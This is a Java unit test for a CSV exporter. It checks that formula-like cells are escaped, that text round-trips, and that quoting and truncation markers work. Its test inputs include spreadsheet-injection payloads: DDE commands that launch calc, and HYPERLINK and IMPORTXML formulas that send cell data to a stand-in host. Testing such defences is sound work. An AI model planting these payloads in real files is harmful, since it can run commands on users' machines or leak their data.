package dev.lockstep.audit.web;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import dev.lockstep.audit.Samples;
import dev.lockstep.audit.fact.Fact;
import dev.lockstep.audit.fact.Facts;
import dev.lockstep.contracts.DirectoryChange;
import dev.lockstep.contracts.ObjectType;
import dev.lockstep.contracts.codec.Codec;
import java.io.StringWriter;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

class CsvTest {
    private static Fact of(String objectId, String userName) {
        return Facts.of(Codec.envelope("hr/1", "ingest", objectId, Samples.T0, new DirectoryChange(ObjectType.USER, DirectoryChange.Operation.MERGE, objectId,
                Map.of("userPrincipalName", userName), List.of(), "hr", "1", null, Samples.T0, Samples.T0, null, "source:hr"))).orElseThrow();
    }

    private static String export(Fact... facts) {
        StringWriter out = new StringWriter();
        Csv csv = new Csv(out, JsonMapper.builder().build());
        List.of(facts).forEach(csv);
        csv.end();
        return out.toString();
    }

    private static List<CsvRecord> read(String csv) {
        return CsvReader.builder().ofCsvRecord(csv).stream().toList();
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1+1)", "\t=1", "\r=1", "\n=1", "\0=1", "=HYPERLINK(\"http://evil.test\";\"x\")",
        "=IMPORTXML(CONCAT(\"http://evil.test/?\",A1),\"//a\")", "-2+3+cmd|' /C calc'!D2"})
    void no_cell_begins_like_a_formula(String payload) {
        List<CsvRecord> rows = read(export(of(payload, payload), of("u1", payload)));

        assertThat(rows).hasSize(3);
        rows.forEach(row -> assertThat(row.getFields()).hasSize(21).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r\n\0".indexOf(cell.charAt(0)) >= 0));
        assertThat(rows.get(1).getField(5).replace("\r\n", "\n")).isEqualTo(("'" + payload).replace("\r\n", "\n"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"plain", "Åsa \"the\" Öberg, jr.", "two\nlines", "a;b,c", "日本", " = not first", "'quoted'"})
    void other_text_comes_back_as_it_was(String value) {
        assertThat(read(export(of("u1", value))).get(1).getField(7)).isEqualTo(value);
    }

    @Test
    void rows_end_in_crlf_and_every_field_is_quoted() {
        String csv = export(of("u1", "a@b.test"));

        assertThat(csv.split("\r\n")).hasSize(2).allMatch(line -> line.startsWith("\"") && line.endsWith("\""));
    }

    @Test
    void an_export_that_broke_off_says_so_in_its_last_row() {
        StringWriter out = new StringWriter();
        Csv csv = new Csv(out, JsonMapper.builder().build());
        csv.accept(of("u1", "a@b.test"));
        csv.breakOff();

        // Not as wide as the others either, so that strict readers stop.
        assertThat(out.toString()).endsWith("\r\n\"" + Rows.INCOMPLETE + "\"\r\n");
    }
}
